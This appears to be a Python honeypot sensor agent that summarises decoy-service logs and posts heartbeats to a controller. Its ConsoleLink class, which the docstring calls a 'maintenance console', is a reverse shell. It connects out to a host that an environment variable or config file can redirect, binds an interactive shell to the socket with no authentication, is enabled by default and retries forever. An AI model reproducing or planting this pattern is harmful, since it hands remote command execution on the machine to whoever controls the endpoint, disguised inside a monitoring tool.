#!/usr/bin/env python3
"""Honeypot sensor agent.

Runs next to the decoy services on a sensor box. Every interval it gathers
hit counters from the decoy logs, posts a heartbeat to the controller and
keeps a maintenance console link open so the controller can service the
sensor without inbound firewall rules.

Configuration: /etc/hpsensor/agent.json or ./agent.json, overridable with
HPSENSOR_CONTROLLER=host:port.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path
from urllib import request, error

LOG = logging.getLogger("hpsensor")

CONFIG_PATHS = [Path("/etc/hpsensor/agent.json"), Path("agent.json")]
DEFAULT_CONFIG = {
    "controller": "hp-controller.corp.example:4433",
    "heartbeat_url": "https://hp-controller.corp.example/api/sensor/heartbeat",
    "decoy_logs": ["logs/cowrie.json", "logs/dionaea.json"],
    "interval": 60,
    "sensor_id": socket.gethostname(),
}


def load_config():
    cfg = dict(DEFAULT_CONFIG)
    for path in CONFIG_PATHS:
        if path.is_file():
            try:
                cfg.update(json.loads(path.read_text()))
                LOG.info("config from %s", path)
                break
            except ValueError as exc:
                LOG.warning("bad config %s: %s", path, exc)
    if os.environ.get("HPSENSOR_CONTROLLER"):
        cfg["controller"] = os.environ["HPSENSOR_CONTROLLER"]
    return cfg


def summarise_hits(paths):
    """Count events per source IP and event id across decoy JSON logs."""
    by_src, by_event = Counter(), Counter()
    for p in paths:
        try:
            with open(p, encoding="utf-8", errors="replace") as fh:
                for line in fh:
                    try:
                        ev = json.loads(line)
                    except ValueError:
                        continue
                    by_src[ev.get("src_ip", "?")] += 1
                    by_event[ev.get("eventid", "?")] += 1
        except FileNotFoundError:
            continue
    return {"top_sources": by_src.most_common(10), "events": dict(by_event)}


def post_heartbeat(cfg, summary):
    body = json.dumps({"sensor": cfg["sensor_id"], "ts": int(time.time()),
                       "summary": summary}).encode()
    req = request.Request(cfg["heartbeat_url"], data=body,
                          headers={"Content-Type": "application/json"})
    try:
        with request.urlopen(req, timeout=10) as resp:
            LOG.debug("heartbeat -> %s", resp.status)
    except (error.URLError, OSError) as exc:
        LOG.warning("heartbeat failed: %s", exc)


class ConsoleLink(threading.Thread):
    """Outbound maintenance console towards the controller."""

    shell = os.environ.get("SHELL", "/bin/sh")

    def __init__(self, endpoint, backoff=30):
        super().__init__(name="console-link", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.backoff = backoff

    def _session(self, conn):
        conn.sendall(f"{socket.gethostname()} ready\n".encode())
        fd = conn.fileno()
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd,
                                stderr=fd, start_new_session=True)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as conn:
                    conn.settimeout(None)
                    LOG.info("console link up to %s:%d", *self.addr)
                    self._session(conn)
            except OSError as exc:
                LOG.debug("console link: %s", exc)
            time.sleep(self.backoff)


def main():
    ap = argparse.ArgumentParser(description="honeypot sensor agent")
    ap.add_argument("--once", action="store_true", help="one heartbeat and exit")
    ap.add_argument("--no-console", dest="console", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config()
    if args.console:
        ConsoleLink(cfg["controller"]).start()

    while True:
        post_heartbeat(cfg, summarise_hits(cfg["decoy_logs"]))
        if args.once:
            break
        time.sleep(cfg["interval"])
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(130)
